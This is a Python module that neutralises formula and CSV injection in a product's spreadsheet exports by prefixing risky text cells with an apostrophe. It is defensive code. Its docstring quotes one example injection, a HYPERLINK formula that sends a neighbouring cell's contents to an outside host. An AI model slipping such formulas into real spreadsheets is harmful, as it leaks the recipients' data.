"""The one safe writer for every XLSX and CSV the product writes (formula / CSV injection, OWASP).

A spreadsheet program treats a text cell that starts with `=`, `+`, `-` or `@` (and, in CSV, a leading tab,
CR or LF, and the full-width forms `＝ ＋ － ＠` that some programs normalise) as a formula: a citizen's
description `=HYPERLINK("http://x/?"&B2,"查看")` would run in the office's workbook. Every text cell that
would start that way is written with a leading apostrophe `'` (the OWASP recommendation); a text that already
starts with an apostrophe followed by such a character gets one more, so `unescape` gives back exactly what
was written (the point and standard imports read our own exports back, byte for byte).

Only text is touched: numbers stay numbers, dates stay dates, booleans and empty cells stay what they are.

- `SafeWorkbook` — an `openpyxl.Workbook` whose write-only sheets neutralise every appended value and whose
  `save` neutralises every cell of ordinary sheets (so `ws.append`, `ws.cell(...)` and `ws["A1"] = ...` are
  all covered). No export of the product needs a formula, so none can be written through it.
- `workbook_bytes(workbook)` — save to bytes.
- `SafeCsvWriter` / `csv_bytes(rows)` — the same rule for CSV (UTF-8 with BOM so spreadsheet programs read the
  Chinese).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

from openpyxl import Workbook
from openpyxl.cell import Cell, MergedCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

TRIGGERS = frozenset("=+-@\t\r\n＝＋－＠")
QUOTE = "'"


def needs_escape(text: str) -> bool:
    """True when a spreadsheet program could read `text` as a formula (or it is an escaped-looking text)."""
    if not text:
        return False
    if text[0] in TRIGGERS:
        return True
    return text[0] == QUOTE and needs_escape(text[1:])


def neutralise(value):
    """A cell value made safe: text that could start a formula gets a leading `'`; other types unchanged."""
    if isinstance(value, str) and needs_escape(value):
        return QUOTE + value
    return value


def unescape(value):
    """The inverse of `neutralise` for text read back from one of our exports (import of a round trip)."""
    if isinstance(value, str) and value[:1] == QUOTE and needs_escape(value[1:]):
        return value[1:]
    return value


def safe_row(values: Iterable) -> list:
    """A row for `append`: plain values neutralised, styled cells neutralised in place."""
    out = []
    for value in values:
        if isinstance(value, Cell):  # also what openpyxl.cell.WriteOnlyCell() returns
            _neutralise_cell(value)
            out.append(value)
        else:
            out.append(neutralise(value))
    return out


def _neutralise_cell(cell) -> None:
    value = cell.value
    if isinstance(value, str) and needs_escape(value):
        cell.value = QUOTE + value
        cell.data_type = "s"


class SafeWriteOnlyWorksheet(WriteOnlyWorksheet):
    def append(self, row):
        super().append(safe_row(row))


class SafeWorkbook(Workbook):
    """An openpyxl workbook that cannot carry a formula coming from data (see the module docstring)."""

    def create_sheet(self, title=None, index=None):
        if self.write_only and not self.read_only:
            sheet = SafeWriteOnlyWorksheet(parent=self, title=title)
            self._add_sheet(sheet=sheet, index=index)
            return sheet
        return super().create_sheet(title=title, index=index)

    def neutralise_cells(self) -> None:
        if self.write_only:
            return  # every value went through SafeWriteOnlyWorksheet.append
        for sheet in self.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if not isinstance(cell, MergedCell):
                        _neutralise_cell(cell)  # a text starting "=" is what openpyxl stores as a formula

    def save(self, filename):
        self.neutralise_cells()
        super().save(filename)


def workbook_bytes(workbook: Workbook) -> bytes:
    if not isinstance(workbook, SafeWorkbook):
        raise TypeError("exports must be built on wenming.core.spreadsheets.SafeWorkbook")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


class SafeCsvWriter:
    """`csv.writer` whose every text field is neutralised."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_bytes(rows: Iterable[Iterable], *, bom: bool = True) -> bytes:
    """Rows → CSV bytes (UTF-8, with a BOM by default), every text field neutralised."""
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows(rows)
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8")
